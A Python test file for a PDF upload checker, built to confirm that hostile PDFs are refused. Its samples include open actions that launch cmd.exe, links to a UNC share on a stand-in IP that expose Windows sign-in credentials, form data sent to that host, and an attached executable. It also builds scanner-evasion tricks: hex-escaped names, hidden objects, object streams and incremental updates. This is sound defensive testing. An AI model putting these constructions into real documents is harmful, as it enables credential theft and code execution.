"""Hostile PDFs, built here with pikepdf or from raw bytes, each refused with its reason.

Every class in issue 10 has a test, and so does each way we know of to hide it from a
checker that reads bytes instead of objects: names spelt with ``#xx`` escapes, objects inside
another stream's data, objects no cross-reference table lists, compressed object streams and
incremental updates. What is accepted still opens in pikepdf and pdftotext.
"""

import io
import re
import subprocess
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from evidence.uploads import pdf as pdf_checks
from tests.evidence.samples import hand_pdf, inspect, object_stream, pdf_stream, refusal

PRINT_AGAIN = "Print it to a new PDF (“Save as PDF”) and upload that copy."
UNC = "\\\\203.0.113.9\\share\\report.pdf"


def built(setup=None, *, object_streams: bool = False) -> bytes:
    """A one-page PDF from pikepdf, after ``setup(pdf)`` has added to it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if setup:
        setup(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode)
    return out.getvalue()


def action(kind: str, **entries) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **entries)


def on_open(act):
    def setup(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(act)

    return setup


def link(act):
    """A link annotation that runs ``act`` when clicked."""

    def setup(pdf):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=act)
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return setup


def page_event(act):
    def setup(pdf):
        pdf.pages[0].AA = Dictionary(O=act)  # the page is opened

    return setup


def assert_refused(data: bytes, code: str, says: str) -> None:
    refused = refusal("report.pdf", data)
    assert refused.code == code
    assert refused.message.startswith("“report.pdf” ")
    assert says in refused.message
    assert refused.message.endswith(PRINT_AGAIN)


def assert_accepted_and_opens(data: bytes) -> None:
    clean = inspect("report.pdf", data)
    assert clean.kind == "pdf" and clean.content == data
    with pikepdf.open(io.BytesIO(data)) as opened:
        assert len(opened.pages) >= 1
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=data, capture_output=True, check=True, timeout=60
    )
    assert text.returncode == 0


# --- Each class ------------------------------------------------------------------------------

JS = "contains JavaScript"


def test_javascript_run_on_open_is_refused():
    assert_refused(
        built(on_open(action("JavaScript", JS=String("app.alert(1)")))), "javascript", JS
    )


def test_document_level_javascript_in_the_names_tree_is_refused():
    def setup(pdf):
        script = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    assert_refused(built(setup), "javascript", JS)


@pytest.mark.parametrize("where", [link, page_event])
def test_javascript_on_a_link_or_a_page_event_is_refused(where):
    assert_refused(built(where(action("JavaScript", JS=String("x")))), "javascript", JS)


def test_launch_action_is_refused():
    data = built(on_open(action("Launch", F=String("C:\\Windows\\System32\\cmd.exe"))))
    assert_refused(data, "launch", "starts a program or opens another file")


@pytest.mark.parametrize(
    ("label", "act"),
    [
        ("GoToR to a network share", lambda: action("GoToR", F=String(UNC), D=[0, Name.Fit])),
        ("GoToR to a web address", lambda: action("GoToR", F=String("https://203.0.113.9/"))),
        ("GoToE to an embedded or remote file", lambda: action("GoToE", F=String(UNC))),
    ],
)
@pytest.mark.parametrize("where", [on_open, link])
def test_go_to_remote_or_embedded_files_is_refused_even_on_a_click(label, act, where):
    assert_refused(built(where(act())), "remote_file", "Windows sign-in")


def test_submit_form_is_refused():
    def setup(pdf):
        field = Dictionary(
            FT=Name.Btn,
            T=String("send"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=[0, 0, 50, 20],
            A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://203.0.113.9/"))),
        )
        field = pdf.make_indirect(field)
        pdf.pages[0].Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    assert_refused(built(setup), "submit_form", "sends what is typed in it elsewhere")


def test_import_data_is_refused():
    data = built(on_open(action("ImportData", F=String(UNC))))
    assert_refused(data, "import_data", "fills itself in from another file")


@pytest.mark.parametrize(
    "setup",
    [
        on_open(action("URI", URI=String("https://203.0.113.9/opened"))),
        page_event(action("URI", URI=String("https://203.0.113.9/page"))),
        # A harmless first step whose next step calls home.
        on_open(action("GoTo", D=Array([0, Name.Fit]), Next=action("URI", URI=String("x:y")))),
    ],
    ids=["on open", "page opened", "next step of the open action"],
)
def test_web_address_opened_automatically_is_refused(setup):
    assert_refused(built(setup), "auto_uri", "opens a web address by itself")


def test_web_address_on_a_link_someone_clicks_is_accepted_and_opens():
    assert_accepted_and_opens(built(link(action("URI", URI=String("https://example.org/")))))


def test_attached_files_are_refused():
    def setup(pdf):
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ...")

    assert_refused(built(setup), "embedded_file", "other files attached")


def test_file_attachment_annotation_is_refused():
    def setup(pdf):
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=String("x")
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])

    assert_refused(built(setup), "embedded_file", "other files attached")


def test_xfa_form_is_refused():
    def setup(pdf):
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    assert_refused(built(setup), "xfa", "dynamic (XFA) form")


def test_rich_media_is_refused():
    def setup(pdf):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
        pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])

    assert_refused(built(setup), "rich_media", "embedded media")


# --- Evasions ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /#4AavaScript /J#53 (app.alert(1)) >>",
        b"/OpenAction << /#53 /L#61unch /F (cmd.exe) >>",
    ],
    ids=["#61", "#4A and #53", "escaped key"],
)
def test_names_spelt_with_hex_escapes_are_read_as_the_names_they_are(catalog):
    refused = refusal("report.pdf", hand_pdf(catalog=catalog))
    assert refused.code in ("javascript", "launch")


def _with_xref(body_objects: list[bytes], *, catalog_extra: bytes = b"") -> bytes:
    """A PDF whose table points at ``body_objects`` by their real offsets."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for chunk in body_objects:
        for match in re.finditer(rb"(\d+) 0 obj", chunk):
            offsets.setdefault(int(match.group(1)), len(out) + match.start())
        out += chunk
    xref_at = len(out)
    size = max(offsets) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0 0 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
    return bytes(out)


BASE = [
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n",
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>\nendobj\n",
]


def test_object_hidden_inside_another_streams_data_is_found():
    # The old scanner skipped from "stream" to "endstream"; the table still leads a reader
    # straight to object 5 in the middle of it.
    hidden = b"5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    carrier = b"4 0 obj\n" + pdf_stream(b"% " + hidden) + b"\nendobj\n"
    data = _with_xref([*BASE, carrier])
    assert b"/JavaScript" in data
    assert refusal("report.pdf", data).code == "javascript"


def test_object_no_table_lists_is_found_as_a_rebuilding_reader_finds_it():
    hidden = b"6 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd) >> >>\nendobj\n"
    clean = hand_pdf()
    data = clean.replace(b"xref\n", hidden + b"xref\n", 1)
    data = re.sub(rb"startxref\n\d+", b"startxref\n%d" % data.index(b"xref\n0 "), data)
    assert refusal("report.pdf", data).code == "launch"


def test_javascript_in_a_compressed_object_stream_is_found():
    data = built(on_open(action("JavaScript", JS=String("app.alert(1)"))), object_streams=True)
    assert b"JavaScript" not in data  # invisible to anything that reads bytes
    assert refusal("report.pdf", data).code == "javascript"


def test_javascript_in_an_object_stream_no_table_points_into_is_found():
    data = hand_pdf(extra=[object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")])
    assert refusal("report.pdf", data).code == "javascript"


def _incremental_update(data: bytes, catalog: bytes) -> bytes:
    """``data`` with object 1 (the catalog) replaced in an appended revision."""
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.search(rb"/Size (\d+)", data).group(1))
    at = len(data)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n" % catalog
    xref_at = at + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % at
    update += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size, previous)
    update += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return data + update


def test_javascript_added_by_an_incremental_update_is_refused():
    data = _incremental_update(hand_pdf(), b"/OpenAction << /S /JavaScript /JS (x) >>")
    assert refusal("report.pdf", data).code == "javascript"


def test_javascript_in_an_earlier_revision_is_refused_even_when_a_later_one_drops_it():
    data = _incremental_update(hand_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), b"")
    with pikepdf.open(io.BytesIO(data)) as latest:
        assert "/OpenAction" not in latest.Root
    assert refusal("report.pdf", data).code == "launch"


# --- Unreadable, damaged, protected ----------------------------------------------------------

DAMAGED = "is damaged or unreadable"


def test_pdf_that_opens_only_after_repair_is_refused_as_damaged():
    # Offsets one byte out: qpdf (like Acrobat) can rebuild the table, but only by repairing.
    data = built()
    start = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    data = data.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + 1))
    with pikepdf.open(io.BytesIO(data)) as repaired:
        assert repaired.get_warnings()
    refused = refusal("report.pdf", data)
    assert refused.code == "damaged" and DAMAGED in refused.message


def test_truncated_pdf_is_refused_as_damaged():
    assert refusal("report.pdf", built()[:-40]).code == "damaged"


def test_object_stream_in_a_filter_we_do_not_unpack_is_refused_as_damaged():
    data = hand_pdf(extra=[object_stream(b"<< >>", filters=b"/Filter /LZWDecode")])
    assert refusal("report.pdf", data).code == "damaged"


def test_object_stream_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_checks, "MAX_OBJECT_STREAM_BYTES", 1024)
    packed = pdf_stream(
        zlib.compress(b"6 0 " + b" " * 4096 + b"<< >>"),
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ",
    )
    assert refusal("report.pdf", hand_pdf(extra=[packed])).code == "damaged"


@pytest.mark.parametrize("user_password", ["", "secret"])
def test_encrypted_pdf_is_refused(user_password):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user_password))
    refused = refusal("report.pdf", out.getvalue())
    assert refused.code == "encrypted"
    assert "protected by a password or by restrictions" in refused.message


# --- Clean files that look a little like hostile ones -----------------------------------------


def test_strings_that_merely_mention_javascript_are_accepted():
    assert_accepted_and_opens(hand_pdf(title=b"(Notes on /JavaScript, /JS \\(and\\) /Launch)"))


def test_clean_pdf_with_compressed_object_streams_is_accepted_and_opens():
    def setup(pdf):
        pdf.docinfo[Name.Title] = "Supervision report"

    assert_accepted_and_opens(built(setup, object_streams=True))


def test_clean_incremental_update_is_accepted():
    data = _incremental_update(hand_pdf(), b"/PageMode /UseOutlines")
    assert_accepted_and_opens(data)
